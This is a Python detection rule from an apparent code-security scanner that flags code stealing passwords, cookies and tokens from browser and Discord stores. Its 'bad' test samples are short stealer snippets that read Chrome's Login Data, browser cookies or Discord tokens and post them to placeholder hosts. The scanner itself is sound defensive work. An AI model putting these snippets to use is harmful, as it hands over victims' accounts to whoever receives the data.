"""Passwords, cookies or tokens that a browser or chat program keeps are taken out of its store.

A browser's store is for the browser.  Code that copies its databases, decrypts what lies in them and sends it away
takes over every account that its user has open.  Remove it, end all sessions and change the passwords.  See CWE-506
and MITRE ATT&CK T1555.003, T1539.
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import places, sendings
from codeguard.checks.malicious._labels import words
from codeguard.checks.malicious._reach import READERS, reach
from codeguard.knowledge.malicious import stores
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.values import string_value

LOOKERS = {"os.path.exists", "os.path.isfile", "os.path.isdir", "builtins.open", "os.listdir", *READERS}
LOOK_METHODS = {"exists", "is_file", "read_bytes", "read_text", "rglob", "glob"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report sendings of a store's content, and files that name a store's parts, take from it and send something."""
    if not unit.fact(sendings) or (
        "cookie" not in unit.text
        and "CryptUnprotect" not in unit.text
        and "-password" not in unit.text
        and not stores.BROWSER_STORE.search(unit.text)
    ):
        return
    if (
        "cookie" in unit.text
        and not any(name.startswith(("browser", "rookiepy")) for name in unit.fact(calls).by_name)
        and not stores.BROWSER_STORE.search(unit.text)
    ):
        return
    sent = unit.fact(sendings)
    hit = False
    for sending in sent:
        taken = sending.has("browser")
        if taken:
            hit = True
            for place in places(sending, unit, "browser"):
                yield Hit(
                    place,
                    f"This sends what the browser or chat program keeps in {words(taken)} to {sending.where}: its user's accounts are open to whoever receives it",
                )
    if hit or not any(s.sent and s.fixed for s in sent):
        return
    named = [
        n
        for n in unit.nodes(cst.SimpleString)
        if isinstance(t := string_value(n), str) and stores.BROWSER_STORE.search(t)
    ]
    wallets = [
        n for n in unit.nodes(cst.SimpleString) if isinstance(t := string_value(n), str) and stores.WALLET.search(t)
    ]
    if len({n.value for n in named}) + len({n.value for n in wallets}) < 2:
        return
    known, flow = unit.fact(calls), unit.fact(reach)
    for name, found in known.by_name.items():
        for call in found:
            method = name.rpartition(".")[2]
            given = set().union(
                *(flow.kinds(a.value) for a in call.args),
                flow.kinds(call.func.value) if isinstance(call.func, cst.Attribute) else set(),
            )
            if (name in LOOKERS or method in LOOK_METHODS) and "path:browser" in given:
                yield Hit(
                    call,
                    "This looks for the stores of browsers and wallets, in a file that also sends data to a fixed host: it takes what lies in them",
                )
                return


CHECK = Check(
    id="CGM003",
    behaviour="take passwords and tokens out of the store of a browser or chat program",
    name="browser-data-theft",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 522),
    find=find,
    fix="Remove the code; end the sessions and change the passwords of every browser that it could read.",
    bad=(
        Bad(
            "import os, sqlite3, shutil, requests\n\ndef go():\n    src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n    shutil.copy(src, 'ld.db')\n    rows = sqlite3.connect('ld.db').execute('SELECT origin_url, password_value FROM logins').fetchall()\n    requests.post('https://a.example.invalid/x', json=[[str(c) for c in r] for r in rows])  # finding\n"
        ),
        Bad(
            "import browser_cookie3, requests\njar = {c.name: c.value for c in browser_cookie3.chrome()}\nrequests.post('https://a.example.invalid', json=jar)  # finding\n"
        ),
        Bad(
            "import os, re, urllib.request\nbase = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nfound = []\nfor n in os.listdir(base):\n    for line in open(os.path.join(base, n), errors='ignore'):\n        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line)\nurllib.request.urlopen('http://192.0.2.1/t', data=str(found).encode())  # finding\n"
        ),
    ),
    good=(
        Good(
            "import sqlite3, sys\n\ndef bookmarks(places):\n    con = sqlite3.connect('file:' + places + '?mode=ro', uri=True)\n    for url, title in con.execute('SELECT url, title FROM moz_places'):\n        print(title, url)\n"
        ),
        Good(
            "from selenium import webdriver\n\ndef start(profile):\n    opts = webdriver.ChromeOptions()\n    opts.add_argument(f'--user-data-dir={profile}')\n    return webdriver.Chrome(options=opts)\n"
        ),
        Good(
            "import browser_cookie3, requests\n\ndef fetch(url):\n    return requests.get(url, cookies=browser_cookie3.firefox(), timeout=30).text\n"
        ),
    ),
    misses=(
        Miss(
            "import shutil, os\nshutil.copytree(os.path.expanduser('~/.mozilla/firefox'), '/mnt/usb/p')  # finding\n",
            why="a copy to another disk can be a backup",
        ),
    ),
)
